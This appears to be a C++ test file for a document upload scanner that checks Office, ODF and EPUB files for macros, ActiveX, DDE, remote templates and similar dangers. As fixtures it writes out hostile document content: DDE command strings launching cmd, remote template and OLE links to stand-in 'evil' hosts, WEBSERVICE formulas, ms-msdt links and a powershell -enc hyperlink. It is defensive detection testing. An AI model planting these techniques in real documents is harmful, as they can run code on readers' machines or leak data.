#include "formats/grammars.hpp"
#include "formats/package.hpp"
#include "support/catch.hpp"
#include "support/judge.hpp"
#include "support/office_files.hpp"
#include "support/zip_builder.hpp"

namespace uploadgate::formats {
namespace {

using namespace test::office;

TEST_CASE("documents are told apart by what they hold", "[office]") {
  const files docx = package_of(word_main);
  const files odt = odf_of("");
  const files epub = epub_of("<p>x</p>");
  const files jar{{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"}};
  files late = odt;
  std::swap(late[0], late[1]);
  files docx_jar = docx;
  docx_jar.insert(docx_jar.end(), jar.begin(), jar.end());
  const sample cases[] = {
      {"a docx", "", "docx", docx},
      {"a docx as an xlsx", "wrong_family", "xlsx", docx},
      {"a docx as a docm", "wrong_family", "docm", docx},
      {"a docx as a plain archive", "wrong_family", "zip", docx},
      {"an xlsx as a docx", "wrong_family", "docx", package_of(sheet_main)},
      {"a plain archive as a docx", "wrong_family", "docx", {{"a.txt", "b"}}},
      {"a JAR", "", "jar", jar},
      {"a JAR as a docx", "wrong_family", "docx", jar},
      {"a JAR as a plain archive", "wrong_family", "zip", jar},
      {"a docx that is a JAR too", "wrong_family", "docx", docx_jar},
      {"an APK as a JAR", "wrong_family", "jar", {{"AndroidManifest.xml", "x"}, jar[0]}},
      {"a WAR as a JAR", "wrong_family", "jar", {{"WEB-INF/web.xml", "x"}, jar[0]}},
      {"an odt", "", "odt", odt},
      {"an odt as an ods", "wrong_family", "ods", odt},
      {"an odt that says so late", "", "odt", late},
      {"a JAR without a manifest", "", "jar", {{"a.class", "x"}}},
      {"an epub", "", "epub", epub},
      {"an epub as a docx", "wrong_family", "docx", epub},
      {"two kinds of document",
       "wrong_family",
       "docx",
       {{"[Content_Types].xml",
         types(word_main, "<Override PartName=\"/x\" ContentType=\"" + std::string{sheet_main} + "\"/>")}}},
      {"a docx without its relationship",
       "missing_part",
       "docx",
       {{"[Content_Types].xml", types(word_main)}}},
      {"parts that differ in case", "duplicate_entry", "docx",
       package_of(word_main, {{"WORD/document.xml", "<a/>"}})},
  };
  for (const sample& c : cases) judge(c);
  const test::outcome o = test::read(zip, bytes_of(docx));
  CHECK(o.found.extension == "docx");
  CHECK(o.found.media_type == "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
}

TEST_CASE("Office documents with something that acts are refused", "[office]") {
  const auto docx = [](files more, std::string_view body = "<w:p/>") {
    return package_of(word_main, std::move(more), body);
  };
  const auto typed = [](std::string_view type) {
    files all = package_of(word_main);
    all[0].second = types(word_main, "<Override PartName=\"/x\" ContentType=\"" + std::string{type} + "\"/>");
    return all;
  };
  const auto related = [&](std::string_view type, std::string_view target, std::string_view mode = {}) {
    return docx({{"word/_rels/document.xml.rels", relations(relation(type, target, mode))}});
  };
  const auto inner = bytes_of(package_of(sheet_main));
  const sample cases[] = {
      {"a macro project by name", "macros", "docx", docx({{"word/vbaProject.bin", "x"}})},
      {"a macro project by content type", "macros", "docx", typed("application/vnd.ms-office.vbaProject")},
      {"a macro sheet by content type", "macros", "docx", typed("application/vnd.ms-excel.macrosheet+xml")},
      {"a macro project by relationship", "macros", "docx", related("vbaProject", "x.dat")},
      {"a macro sheet by folder", "macros", "docx", docx({{"xl/macrosheets/sheet1.xml", "<a/>"}})},
      {"a custom user interface", "macros", "docx", docx({{"customUI/customUI.xml", "<a/>"}})},
      {"ActiveX by folder", "activex", "docx", docx({{"word/activeX/activeX1.xml", "<a/>"}})},
      {"ActiveX by content type", "activex", "docx", typed("application/vnd.ms-office.activeX+xml")},
      {"ActiveX by relationship", "activex", "docx", related("control", "x.xml")},
      {"a remote template", "external_reference", "docx", related("attachedTemplate", "http://evil.example/t.dotm", "External")},
      {"a template on a share", "external_reference", "docx", related("attachedTemplate", "\\\\evil\\t.dotm", "External")},
      {"a template on a share, as a URL", "external_reference", "docx", related("attachedTemplate", "file://evil/t.dotm", "External")},
      {"a template on a share, in slashes", "external_reference", "docx", related("attachedTemplate", "file:////evil/t.dotm", "External")},
      {"a template on the author's drive", "", "docx", related("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", "External")},
      {"a remote image", "external_reference", "docx", related("image", "https://evil.example/x.png", "External")},
      {"a linked object", "external_reference", "docx", related("oleObject", "mhtml:http://evil!x-usc:http://evil", "External")},
      {"a remote frame", "external_reference", "docx", related("frame", "x.htm", "External")},
      {"an external relationship that does not say so", "external_reference", "docx", related("image", "http://evil.example/x")},
      {"a hyperlink", "", "docx", related("hyperlink", "https://example.org/", "External")},
      {"an embedded object by name", "embedded_file", "docx", docx({{"word/embeddings/oleObject1.bin", "x"}})},
      {"an embedded object by relationship", "embedded_file", "docx", related("oleObject", "x.dat")},
      {"an alternative chunk", "embedded_file", "docx", related("aFChunk", "x.html")},
      {"an embedded workbook", "", "docx", docx({{"word/embeddings/Microsoft_Excel_Sheet.xlsx", inner}})},
      {"an embedded workbook that is none", "bad_signature", "docx", docx({{"word/embeddings/Microsoft_Excel_Sheet.xlsx", "MZ........"}})},
      {"an embedded workbook with macros", "macros", "docx",
       docx({{"word/embeddings/S.xlsx", bytes_of(package_of(sheet_main, {{"xl/vbaProject.bin", "x"}}))}})},
      {"DDE in a simple field", "dynamic_data_exchange", "docx", docx({}, "<w:fldSimple w:instr=' DDEAUTO c:\\\\x'/>")},
      {"DDE over runs", "dynamic_data_exchange", "docx",
       docx({}, mark("begin") + run(" DD") + run("EAU") + run("TO c:\\\\x") + mark("separate") + mark("end"))},
      {"DDE without a result", "dynamic_data_exchange", "docx", docx({}, mark("begin") + run("dde x") + mark("end"))},
      {"DDE in a header with another name", "dynamic_data_exchange", "docx",
       docx({{"word/media/x.png", word(mark("begin") + run("DDE x") + mark("end"))}})},
      {"a field whose kind is computed", "dynamic_data_exchange", "docx",
       docx({}, mark("begin") + mark("begin") + run("QUOTE 68 68 69") + mark("end") + run(" x") + mark("end"))},
      {"DDE behind much space", "dynamic_data_exchange", "docx",
       docx({}, mark("begin") + run(std::string(9000, ' ')) + run("DDE x") + mark("end"))},
      {"a field without end", "bad_length", "docx",
       docx({}, mark("begin") + run(std::string(20'000, ' ')) + run(std::string(20'000, 'x')) + mark("end"))},
      {"a long citation", "", "docx",
       docx({}, mark("begin") + run(" ADDIN ZOTERO_ITEM " + std::string(40'000, 'x')) + mark("end"))},
      {"a field in a field", "", "docx",
       docx({}, mark("begin") + run("IF ") + mark("begin") + run("PAGE") + mark("end") + run(" = 1") + mark("end"))},
      {"a page number", "", "docx", docx({}, mark("begin") + run(" PAGE ") + mark("separate") + mark("end"))},
      {"a remote picture field", "external_reference", "docx", docx({}, "<w:fldSimple w:instr='INCLUDEPICTURE \"http://evil/x\"'/>")},
      {"a linked-object field", "external_reference", "docx", docx({}, "<w:fldSimple w:instr='LINK Excel.Sheet x'/>")},
      {"a DDE link of a workbook", "dynamic_data_exchange", "xlsx",
       package_of(sheet_main, {{"xl/externalLinks/externalLink1.xml",
                                "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                                "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"}})},
      {"a web service in a formula", "external_reference", "xlsx",
       package_of(sheet_main, {{"xl/worksheets/sheet1.xml",
                                "<s xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                                "<f>WEBSERVICE(\"http://evil\")</f></s>"}})},
      {"a web service behind spaces, in a rule", "external_reference", "xlsx",
       package_of(sheet_main, {{"xl/worksheets/sheet1.xml",
                                "<s xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                                "<formula>WEBSERVICE (\"http://evil\")</formula></s>"}})},
      {"a web service in a table", "external_reference", "xlsx",
       package_of(sheet_main, {{"xl/tables/table1.xml",
                                "<s xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                                "<calculatedColumnFormula>WEBSERVICE(\"http://evil\")</calculatedColumnFormula></s>"}})},
      {"a program in a sparkline", "dynamic_data_exchange", "xlsx",
       package_of(sheet_main, {{"xl/worksheets/sheet1.xml",
                                "<m:f xmlns:m=\"http://schemas.microsoft.com/office/excel/2006/main\">"
                                "cmd|'/c calc'!A0</m:f>"}})},
      {"a web service in a chart", "external_reference", "xlsx",
       package_of(sheet_main, {{"xl/charts/chart1.xml",
                                "<c:f xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\">"
                                "WEBSERVICE(\"http://evil\")</c:f>"}})},
      {"a sum in a rule", "", "xlsx",
       package_of(sheet_main, {{"xl/worksheets/sheet1.xml",
                                "<s xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                                "<formula>SUM (A1:A2)&gt;1</formula></s>"}})},
      {"a connection's file elsewhere", "external_reference", "xlsx",
       package_of(sheet_main, {{"xl/connections.xml",
                                "<s xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                                "<connection odcFile=\"\\\\host\\a.odc\"/></s>"}})},
      {"a cube elsewhere", "external_reference", "xlsx",
       package_of(sheet_main, {{"xl/connections.xml",
                                "<s xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                                "<olapPr localConnection=\"a=http://host/\"/></s>"}})},
      {"a link to a program of a share", "launch_action", "docx",
       related("hyperlink", "file://host/share/a.HTA", "External")},
      {"a link to a program with arguments", "launch_action", "docx",
       related("hyperlink", "C:\\Windows\\powershell.exe -enc AA", "External")},
      {"a link to a program beside it", "launch_action", "docx", related("hyperlink", "calc.exe", "External")},
      {"a link to a download", "", "docx", related("hyperlink", "https://example.org/a.exe", "External")},
      {"a mail address taken for a file", "", "docx", related("hyperlink", "../a@example.com", "External")},
      {"a share behind an escape", "external_reference", "docx",
       related("image", "%5C%5chost%5Ca", "External")},
      {"a program behind a click", "launch_action", "docx",
       docx({{"ppt/slides/slide1.xml", "<a:x xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\">"
                                       "<a:hlinkClick action=\"ppaction://program\"/></a:x>"}})},
      {"JavaScript behind a click", "javascript", "docx", related("hyperlink", " java\tscript:x", "External")},
      {"a protocol that runs programs", "launch_action", "docx", related("hyperlink", "MS-MSDT:/id x", "External")},
      {"a mail address", "", "docx", related("hyperlink", "mailto:a@example.org", "External")},
      {"a package elsewhere", "embedded_file", "docx", related("package", "media/x.exe")},
      {"a remote picture behind a switch", "external_reference", "docx",
       docx({}, "<w:fldSimple w:instr='INCLUDEPICTURE \\d \"http://evil/x\"'/>")},
      {"a program for a picture", "embedded_file", "docx",
       docx({{"word/media/a.png", "MZ" + std::string(58, '\0') + std::string("\x40\0\0\0PE\0\0", 8) + std::string(90, 'x')}})},
      {"a shortcut for a picture", "embedded_file", "docx",
       docx({{"word/media/a.png", std::string("L\0\0\0\1\x14\2\0", 8) + std::string(90, 'x')}})},
      {"a Java class in a folder of its own", "embedded_file", "docx",
       docx({{"x/a.dat", std::string("\xCA\xFE\xBA\xBE\0\0\0\x34", 8) + std::string(90, 'x')}})},
      {"a cabinet", "embedded_file", "docx",
       docx({{"word/a.bin", std::string("MSCF\0\0\0\0", 8) + std::string(90, 'x')}})},
      {"a compound file for a picture", "embedded_file", "docx",
       docx({{"word/media/a.png", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + std::string(600, 'x')}})},
      {"a linked object in VML", "external_reference", "docx",
       docx({{"word/a.xml", "<o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" Type=\"Link\"/>"}})},
      {"a control by its element", "activex", "docx",
       docx({{"word/a.xml", "<a:ocx xmlns:a=\"http://schemas.microsoft.com/office/2006/activeX\"/>"}})},
      {"a macro sheet by its element", "macros", "xlsx",
       package_of(sheet_main, {{"xl/a.xml", "<m:macrosheet xmlns:m=\"http://schemas.microsoft.com/office/excel/2006/main\"/>"}})},
      {"an add-in from elsewhere", "external_reference", "docx",
       docx({{"word/a.xml", "<w:reference xmlns:w=\"http://schemas.microsoft.com/office/webextensions/webextension/2010/11\" store=\"//evil/x\"/>"}})},
      {"a document type", "doctype", "docx", docx({{"word/x.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}})},
      {"XML that is not well-formed", "not_well_formed", "docx", docx({{"word/x.xml", "<a><b></a>"}})},
      {"XML that is too deep", "nested_too_deep", "docx",
       docx({{"word/x.xml", [] { std::string s; for (int i = 0; i < 300; ++i) s += "<a>"; return s; }()}})},
      {"an empty part", "", "docx", docx({{"word/x.xml", ""}})},
      {"a drawing that is not quite XML", "", "docx", docx({{"word/vmlDrawing1.vml", "<xml><br></xml>"}})},
  };
  for (const sample& c : cases) judge(c);
}

TEST_CASE("formulas that start or fetch something are refused", "[office]") {
  const struct {
    std::string_view formula;
    std::string_view reason;
  } cases[] = {
      {"cmd|'/C calc'!A0", "dynamic_data_exchange"},
      {"of:=DDE(\"cmd\";\"x\";\"y\")", "dynamic_data_exchange"},
      {"SUM(A1:A3)", ""},
      {"\"a|b\"", ""},
      {"'a|b'!A1", ""},
      {"Table1[a|b]", ""},
      {"of:={1;2|3;4}", ""},
      {"ADDE(1)", ""},
      {"_xlfn.IMAGE(\"x\")", "external_reference"},
      {"RTD(\"x\",,\"y\")", "external_reference"},
      {"CALL(\"urlmon\",\"x\")", "macros"},
      {"EXEC(\"calc\")", "macros"},
      {"RECALL(1)", ""},
      {"HYPERLINK(\"http://example.org\")", ""},
      {"of:='http://evil/x.ods'#$A.A1", "external_reference"},
      {"'\\\\evil\\s\\[x.xlsx]S'!A1", "external_reference"},
  };
  for (const auto& c : cases) {
    CAPTURE(c.formula);
    structure_limits limits;
    context ctx{limits};
    rule_sink sink{ctx, true};
    const result r = judge_formula(sink, c.formula);
    CHECK((r.ok() ? std::string{} : r.why().code.message()) ==
          (c.reason.empty()
               ? std::string{}
               : make_error_code(c.reason == "macros"               ? errc::macros
                                 : c.reason == "external_reference" ? errc::external_reference
                                                                    : errc::dynamic_data_exchange)
                     .message()));
  }
}

TEST_CASE("ODF and EPUB with something that acts are refused", "[office]") {
  const sample cases[] = {
      {"Basic", "macros", "odt", odf_of("", {{"Basic/Standard/Module1.xml", "<a/>"}})},
      {"an empty Basic library", "", "odt", odf_of("", {{"Basic/Standard/script-lb.xml", "<a/>"}})},
      {"a Python script", "macros", "odt", odf_of("", {{"Scripts/python/x.py", "x"}})},
      {"an event listener", "macros", "odt", odf_of("<script:event-listener/>")},
      {"a script in a link", "macros", "odt", odf_of("<text:a xlink:href='vnd.sun.star.script:x'/>")},
      {"a hyperlink", "", "odt", odf_of("<text:a xlink:href='http://example.org/'/>")},
      {"a remote image", "external_reference", "odt", odf_of("<draw:image xlink:href='http://evil/x'/>")},
      {"an image inside", "", "odt", odf_of("<draw:image xlink:href='Pictures/x.png'/>")},
      {"a remote section", "external_reference", "odt",
       odf_of("<text:section-source xlink:href='//evil/x.odt'/>")},
      {"DDE", "dynamic_data_exchange", "odt", odf_of("<office:dde-source/>")},
      {"an OLE object", "embedded_file", "odt", odf_of("<draw:object-ole xlink:href='./Object 1'/>")},
      {"an encrypted part", "encrypted", "odt",
       odf_of("", {{"META-INF/manifest.xml",
                    "<m:manifest xmlns:m=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\">"
                    "<m:encryption-data/></m:manifest>"}})},
      {"a macro field", "macros", "odt", odf_of("<text:execute-macro/>")},
      {"a page in a frame of a book", "javascript", "epub", epub_of("<iframe src='data:text/html,x'/>")},
      {"a page in an attribute of a book", "javascript", "epub", epub_of("<iframe srcdoc='x'/>")},
      {"a page of a book that leads on", "external_reference", "epub",
       epub_of("<meta http-equiv='Refresh'/>")},
      {"a book whose links begin elsewhere", "external_reference", "epub",
       epub_of("<base href='http://evil/'/>")},
      {"a script in a book", "javascript", "epub", epub_of("<script>x</script>")},
      {"a handler in a book", "event_handler", "epub", epub_of("<p onclick='x'/>")},
      {"a JavaScript link in a book", "javascript", "epub", epub_of("<a href=' java\tscript:x'>x</a>")},
      {"a remote image in a book", "external_reference", "epub", epub_of("<img src='http://evil/x'/>")},
      {"a program in a book, by its name", "embedded_file", "epub", epub_of("", {{"a.exe", "MZ"}})},
      {"a script file in a book", "javascript", "epub", epub_of("", {{"OEBPS/a.js", "alert(1)"}})},
      {"a sheet that imports from elsewhere", "external_reference", "epub",
       epub_of("", {{"a.css", "p{}@import url(http://evil/x.css);"}})},
      {"a sheet that draws from elsewhere", "external_reference", "epub",
       epub_of("", {{"a.css", "p{background:u\\72l(//evil/x)}"}})},
      {"a style that draws from elsewhere", "external_reference", "epub",
       epub_of("<p style='background:url(http://evil/x)'/>")},
      {"a sheet that runs code", "javascript", "epub", epub_of("", {{"a.css", "p{width:expression(x)}"}})},
      {"sheets and pictures of the book", "", "epub",
       epub_of(
           "<p style='background:url(../i.png)'/>",
           {{"a.css",
             "@import 'b.css';@namespace h url(http://www.w3.org/1999/xhtml);p{background:url(i.png)}"}})},
      {"a link to another part", "", "epub", epub_of("<img src='../x.png'/>")},
      {"a protected book", "encrypted", "epub", epub_of("", {{"META-INF/rights.xml", "<a/>"}})},
      {"a book with an entity", "doctype", "epub",
       epub_of("", {{"x.xhtml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}})},
  };
  for (const sample& c : cases) judge(c);
}

TEST_CASE("what a policy allows passes with a warning or without", "[office]") {
  structure_limits limits;
  limits.document.macros = handling::warn;
  const std::string bytes = bytes_of(package_of(word_main, {{"word/vbaProject.bin", "x"}}));
  const test::outcome o = test::read_every_split(zip, bytes, limits, "docx");
  CHECK(o.reason == "");
  CHECK(o.found.warnings.size() == 1);
  limits.document.macros = handling::allow;
  CHECK(test::read(zip, bytes, limits, "docx").found.warnings.empty());
}

TEST_CASE("where a link leads", "[office]") {
  const struct {
    std::string_view link;
    target where;
  } cases[] = {
      {"", target::inside},
      {"#x", target::inside},
      {"media/a.png", target::inside},
      {"NULL", target::inside},
      {"C:\\a", target::local},
      {"file:///C:/a", target::local},
      {"file:///home/a", target::local},
      {"file://localhost/a", target::local},
      {"Macintosh%20HD:Users:a", target::local},
      {"/a", target::local},
      {"../a", target::local},
      {"http://x", target::remote},
      {" HTTPS://x", target::remote},
      {"\\\\host\\a", target::remote},
      {"//host/a", target::remote},
      {"/\\host/a", target::remote},
      {"file://host/a", target::remote},
      {"file:\\\\host\\a", target::remote},
      {"file:////host/a", target::remote},
      {"file:///%5c%5chost", target::remote},
      {"ms-msdt:x", target::remote},
      {"mhtml:x", target::remote},
  };
  for (const auto& c : cases) {
    CAPTURE(c.link);
    CHECK(classify_target(c.link) == c.where);
  }
}

}  // namespace
}  // namespace uploadgate::formats
